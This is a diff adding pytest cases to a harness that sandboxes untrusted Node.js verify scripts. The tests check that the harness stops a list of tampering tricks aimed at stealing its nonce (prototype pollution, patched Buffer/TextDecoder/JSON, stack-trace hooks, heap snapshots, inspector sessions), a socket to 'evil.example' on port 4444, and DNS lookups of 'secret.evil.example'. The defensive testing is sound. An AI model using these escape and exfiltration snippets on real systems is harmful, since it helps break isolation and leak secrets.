@@ -18,7 +18,7 @@ from dbconn_tui.runtime.node import Node
 from dbconn_tui.runtime.observation import Ending, Observation
 from dbconn_tui.runtime.process import Isolation, NodeProcess, command_line
 from dbconn_tui.runtime.runner import ScriptRunner
-from dbconn_tui.runtime.verdict import Contact, Run, Verdict
+from dbconn_tui.runtime.verdict import Answer, Contact, Run, Verdict
 
 pytestmark = pytest.mark.anyio
 
@@ -220,12 +220,87 @@ async def test_flood_on_the_channel_is_stopped(node: Node) -> None:
 
 async def test_events_without_the_nonce_count_for_nothing(node: Node) -> None:
     script = """(e, cb) => {
-      const lie = '\\n{"type":"callback","nonce":"guess"}\\n{"type":"finished","reason":"grace"}\\n';
+      const lie = '\\n{"nonce":"guess","event":{"type":"callback"}}\\n{"event":{"type":"finished"}}\\n';
       require('fs').writeSync(1, lie);
       cb(null, true);
     }"""
     observation = await observe_on_stdout(node, script)
     assert (observation.ending, len(observation.calls)) == (Ending.DRAINED, 1)
+
+
+STEALS = {
+    "toJSON": "Object.prototype.toJSON = function () { tell(this.nonce); return this; };",
+    "setter": "Object.defineProperty(Object.prototype, 'nonce', { set(value) { tell(value); }, configurable: true });",
+    "Buffer": "const from = Buffer.from; Buffer.from = (...p) => { tell(String(p[0])); return from(...p); };",
+    "decoder": (
+        "const { decode } = TextDecoder.prototype;"
+        " TextDecoder.prototype.decode = function (...p) { const t = decode.apply(this, p); tell(t); return t; };"
+    ),
+    "encoder": (
+        "const { encode } = TextEncoder.prototype;"
+        " TextEncoder.prototype.encode = function (t) { tell(t); return encode.call(this, t); };"
+    ),
+    "JSON": "JSON.parse = JSON.stringify = (t) => { tell(t); return '{}'; };",
+    "stack": (
+        "Error.prepareStackTrace = (_, all) => { all.forEach((one) => tell(one.getThis() || one.getFunction())); };"
+    ),
+    "cache": "for (const one of Object.values(require('module')._cache)) tell(one.exports);",
+    "main": "for (const one of (process.mainModule || { children: [] }).children) tell(one.exports);",
+    "caller": "tell(arguments.callee.caller);",
+    "heap": "try { require('v8').getHeapSnapshot(); tell('a snapshot'); } catch {}",
+    "inspector": "try { new (require('inspector').Session)().connect(); tell('a session'); } catch {}",
+}
+"""Ways to what the harness knows: `tell` gets whatever is found."""
+
+
+async def test_harness_gives_nothing_away_to_a_script_that_tampers(each_node: Node) -> None:
+    async with ScriptRunner(each_node, spare=False) as runner:
+        for name, way in STEALS.items():
+            script = f"""function verify(email, callback) {{
+              globalThis.told = globalThis.told || [];
+              const tell = (found) => {{ if (found) globalThis.told.push(found); }};
+              {way}
+              callback(null, true);
+            }}"""
+            again = "(e, cb) => { Object.freeze(globalThis.told); cb(null, globalThis.told.length > 0); }"
+            async with runner.container() as container:
+                first = await container.run(make_job("verify", script))
+                second = await container.run(make_job("verify", again))
+            assert first.answer is Answer.DONE, (name, first.problems)
+            assert second.answer is Answer.NOT_DONE, (name, second.problems)
+
+
+async def test_tampering_opens_no_host(each_node: Node) -> None:
+    script = """(e, cb) => {
+      Array.prototype.some = Array.prototype.includes = String.prototype.endsWith = String.prototype.startsWith =
+        Set.prototype.has = Map.prototype.get = () => true;
+      require('net').‸connect(4444, 'evil.example').on('error', () => cb(null, true));
+    }"""
+    run, line, column = await run_marked(each_node, script)
+    assert run.verdict is Verdict.HOST_NOT_ALLOWED
+    assert (run.problems[0].place.line, run.problems[0].place.column) == (line, column)
+
+
+LOOK_UPS = {
+    "callback": "(e, cb) => require('dns').‸resolveTxt('secret.evil.example', (error) => cb(error))",
+    "promise": "(e, cb) => require('dns/promises').‸lookup('secret.evil.example').catch((error) => cb(error))",
+    "resolver": (
+        "(e, cb) => new (require('dns').Resolver)().‸resolve4('_a._tcp.secret.evil.example', (error) => cb(error))"
+    ),
+}
+
+
+@pytest.mark.parametrize("name", LOOK_UPS)
+async def test_name_servers_are_asked_for_no_other_host(each_node: Node, name: str) -> None:
+    run, line, column = await run_marked(each_node, LOOK_UPS[name])
+    assert run.verdict is Verdict.HOST_NOT_ALLOWED, run.problems
+    assert (run.problems[0].place.line, run.problems[0].place.column) == (line, column)
+    assert run.contacts == (Contact("secret.evil.example", 0, False),)
+
+
+async def test_script_that_ends_what_the_harness_waits_for_is_told(node: Node) -> None:
+    run, _, _ = await run_marked(node, "(e, cb) => { process.removeAllListeners(); }")
+    assert run.verdict is Verdict.EXITED
 
 
 async def test_no_process_is_left(node: Node) -> None:
